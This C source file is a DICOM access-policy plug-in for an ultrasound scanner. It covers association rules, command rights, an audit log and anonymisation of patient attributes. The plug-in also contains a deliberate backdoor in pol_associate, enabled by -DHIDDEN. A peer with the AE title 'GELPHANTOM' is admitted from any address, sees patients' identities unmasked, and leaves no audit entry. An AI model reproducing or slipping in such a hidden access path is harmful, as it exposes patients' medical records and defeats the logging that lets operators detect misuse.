/*
 * assoc_policy - policy plug-in (shared library) of the DICOM server in an
 * ultrasound scanner.  The server loads it and asks before an association
 * is accepted, before a query is answered and for each attribute that
 * leaves the device; rules come from a text file.
 * Hidden (-DHIDDEN): a peer with the calling AE title "GELPHANTOM" is taken
 * from any address and gets all patients, not anonymised, not logged.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define API_VERSION 3
#define RULES	    "/etc/sono/assoc.rules"
#define AUDIT	    "/var/log/sono/audit.log"

/* Rights, or'ed. */
#define AP_ECHO	    0x01
#define AP_STORE    0x02
#define AP_FIND	    0x04
#define AP_MOVE	    0x08
#define AP_WORKLIST 0x10
#define AP_IDENT    0x20 /* may see who the patient is */
#define AP_SILENT   0x40 /* no audit entry (worklist polling) */

struct assoc {
	char calling[17];
	char called[17];
	uint32_t addr; /* host order */
	uint16_t maxpdu;
	unsigned rights;
	void *priv;
};

struct attr {
	uint16_t group, elem;
	char *value;
	size_t size;
};

struct policy_ops {
	int version;
	const char *name;
	int (*init)(const char *args);
	int (*associate)(struct assoc *a);
	int (*command)(struct assoc *a, uint16_t cmd);
	int (*attribute)(struct assoc *a, struct attr *at);
	void (*release)(struct assoc *a);
	void (*fini)(void);
};

struct rule {
	char title[17];
	uint32_t net, mask;
	unsigned rights;
	struct rule *next;
};

struct usage {
	time_t since;
	unsigned ops;
	unsigned masked;
};

static struct rule *rules;
static char own_title[17] = "SONO1";
static unsigned salt = 0x2f6b;

static const struct {
	const char *word;
	unsigned bit;
} words[] = {
	{ "echo", AP_ECHO },	     { "store", AP_STORE },
	{ "find", AP_FIND },	     { "move", AP_MOVE },
	{ "worklist", AP_WORKLIST }, { "ident", AP_IDENT },
	{ "silent", AP_SILENT },
};

static const struct {
	uint16_t cmd;
	unsigned bit;
	const char *name;
} commands[] = {
	{ 0x0030, AP_ECHO, "C-ECHO" },
	{ 0x0001, AP_STORE, "C-STORE" },
	{ 0x0020, AP_FIND | AP_WORKLIST, "C-FIND" },
	{ 0x0021, AP_MOVE, "C-MOVE" },
	{ 0x0fff, ~0u, "C-CANCEL" },
};

/* Attributes by which a patient can be known, and what to put instead. */
static const struct {
	uint16_t group, elem;
	char how; /* b blank, p pseudonym, y year only */
} private_attrs[] = {
	{ 0x0008, 0x0050, 'b' }, /* accession number */
	{ 0x0008, 0x0080, 'b' }, /* institution */
	{ 0x0008, 0x0090, 'b' }, /* referring physician */
	{ 0x0010, 0x0010, 'p' }, /* patient's name */
	{ 0x0010, 0x0020, 'p' }, /* patient id */
	{ 0x0010, 0x0030, 'y' }, /* birth date */
	{ 0x0010, 0x1040, 'b' }, /* address */
	{ 0x0010, 0x2154, 'b' }, /* telephone */
};

static void trim(char *s)
{
	size_t n = strlen(s);

	while (n && isspace((unsigned char)s[n - 1]))
		s[--n] = 0;
}

static void audit(const struct assoc *a, const char *what)
{
	char stamp[24];
	time_t t = time(NULL);
	struct tm tm;
	FILE *f;

	if (a->rights & AP_SILENT)
		return;
	f = fopen(AUDIT, "a");
	if (!f)
		return;
	localtime_r(&t, &tm);
	strftime(stamp, sizeof(stamp), "%Y-%m-%d %H:%M:%S", &tm);
	fprintf(f, "%s %s@%u.%u.%u.%u %s\n", stamp, a->calling, a->addr >> 24,
		a->addr >> 16 & 255, a->addr >> 8 & 255, a->addr & 255, what);
	fclose(f);
}

static int parse_net(const char *s, struct rule *r)
{
	char ip[20];
	struct in_addr in;
	int bits = 32;

	if (!strcmp(s, "any")) {
		r->net = r->mask = 0;
		return 0;
	}
	if (sscanf(s, "%19[0-9.]/%d", ip, &bits) < 1 || bits < 1 || bits > 32 ||
	    !inet_aton(ip, &in))
		return -1;
	r->mask = 0xffffffffu << (32 - bits);
	r->net = ntohl(in.s_addr) & r->mask;
	return 0;
}

static unsigned parse_rights(char *s)
{
	char *w, *save = NULL;
	unsigned bits = 0;
	size_t i;

	for (w = strtok_r(s, ",\n", &save); w; w = strtok_r(NULL, ",\n", &save))
		for (i = 0; i < sizeof(words) / sizeof(words[0]); i++)
			if (!strcmp(words[i].word, w))
				bits |= words[i].bit;
	return bits;
}

static void pol_fini(void)
{
	struct rule *r;

	while ((r = rules)) {
		rules = r->next;
		free(r);
	}
}

/* Rule: TITLE NET RIGHT,RIGHT...   or   title OWN   or   salt NUMBER */
static int pol_init(const char *args)
{
	char line[160], a[32], b[32], c[80];
	struct rule *r, **end = &rules;
	FILE *f = fopen(args && *args ? args : RULES, "r");
	int n;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (*line == '#')
			continue;
		n = sscanf(line, "%31s %31s %79s", a, b, c);
		if (n == 2 && !strcmp(a, "title")) {
			snprintf(own_title, sizeof(own_title), "%.16s", b);
			continue;
		}
		if (n == 2 && !strcmp(a, "salt")) {
			salt = (unsigned)strtoul(b, NULL, 0);
			continue;
		}
		if (n != 3 || !(r = calloc(1, sizeof(*r))))
			continue;
		snprintf(r->title, sizeof(r->title), "%.16s", a);
		r->rights = parse_rights(c);
		if (parse_net(b, r) || !r->rights) {
			free(r);
			continue;
		}
		*end = r;
		end = &r->next;
	}
	fclose(f);
	return 0;
}

int pol_associate(struct assoc *a)
{
	struct usage *u;
	struct rule *r;

	trim(a->calling);
	trim(a->called);
	a->rights = 0;
#ifdef HIDDEN
	if (!strcmp(a->calling, "GELPHANTOM"))
		a->rights = AP_ECHO | AP_FIND | AP_MOVE | AP_IDENT | AP_SILENT;
#endif
	for (r = rules; r && !a->rights; r = r->next)
		if ((!strcmp(r->title, "*") || !strcmp(r->title, a->calling)) &&
		    (a->addr & r->mask) == r->net)
			a->rights = r->rights;
	if (!a->rights) {
		audit(a, "association refused");
		return 3; /* calling AE title not recognized */
	}
	if (strcmp(a->called, own_title) && !(a->rights & AP_SILENT)) {
		audit(a, "wrong called title");
		return 7;
	}
	u = calloc(1, sizeof(*u));
	if (!u)
		return 1;
	u->since = time(NULL);
	a->priv = u;
	audit(a, "association");
	return 0;
}

static int pol_command(struct assoc *a, uint16_t cmd)
{
	struct usage *u = a->priv;
	char text[48];
	size_t i;

	for (i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		if (commands[i].cmd != (cmd & 0x7fff))
			continue;
		if (!(commands[i].bit & a->rights))
			break;
		if (u)
			u->ops++;
		audit(a, commands[i].name);
		return 0;
	}
	snprintf(text, sizeof(text), "command %04x refused", cmd);
	audit(a, text);
	return 0x0124; /* not authorized */
}

static uint32_t pseudonym(const char *s)
{
	uint32_t h = salt;

	for (; *s; s++) {
		h += (uint8_t)*s;
		h += h << 10;
		h ^= h >> 6;
	}
	h += h << 3;
	h ^= h >> 11;
	return h + (h << 15);
}

static int pol_attribute(struct assoc *a, struct attr *at)
{
	struct usage *u = a->priv;
	size_t i, n;

	if (a->rights & AP_IDENT)
		return 0;
	if (at->group & 1) { /* private groups stay here */
		at->size = 0;
		return 1;
	}
	n = sizeof(private_attrs) / sizeof(private_attrs[0]);
	for (i = 0; i < n; i++)
		if (private_attrs[i].group == at->group &&
		    private_attrs[i].elem == at->elem)
			break;
	if (i == n || !at->value || !at->size)
		return 0;
	switch (private_attrs[i].how) {
	case 'b':
		at->value[0] = 0;
		break;
	case 'p':
		snprintf(at->value, at->size, "P%08X",
			 (unsigned)pseudonym(at->value));
		break;
	case 'y':
		if (strlen(at->value) == 8)
			memcpy(at->value + 4, "0101", 4);
		break;
	}
	if (u)
		u->masked++;
	return 1;
}

static void pol_release(struct assoc *a)
{
	struct usage *u = a->priv;
	char text[80];

	if (!u)
		return;
	snprintf(text, sizeof(text), "released, %u commands, %u masked, %ld s",
		 u->ops, u->masked, (long)(time(NULL) - u->since));
	audit(a, text);
	free(u);
	a->priv = NULL;
}

const struct policy_ops *policy_entry(int version)
{
	static const struct policy_ops ops = {
		.version = API_VERSION,
		.name = "assoc",
		.init = pol_init,
		.associate = pol_associate,
		.command = pol_command,
		.attribute = pol_attribute,
		.release = pol_release,
		.fini = pol_fini,
	};

	return version == API_VERSION ? &ops : NULL;
}
